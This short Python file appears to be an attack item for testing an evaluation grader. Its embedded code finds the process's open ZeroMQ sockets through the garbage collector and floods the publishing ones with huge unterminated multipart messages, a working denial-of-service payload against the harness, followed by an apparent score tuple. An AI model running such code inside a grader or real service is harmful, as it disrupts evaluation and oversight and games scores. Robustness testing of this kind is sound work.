"""Floods the grader through sockets that nobody reads, in one message without an end."""

EXTRA = [
    """
import gc
import zmq

block = b"x" * (4 << 20)
sockets = [s for s in gc.get_objects() if isinstance(s, zmq.Socket) and not s.closed]
for _ in range(400):
    for s in sockets:
        try:
            if s.type == zmq.XPUB or s.type == zmq.PUB:
                s.send(block, zmq.SNDMORE | zmq.NOBLOCK, copy=False)
        except Exception:
            pass
for s in sockets:
    try:
        s.send(b"end", zmq.NOBLOCK)
    except Exception:
        pass
""",
]
SCORE = (8.0, 0.0)
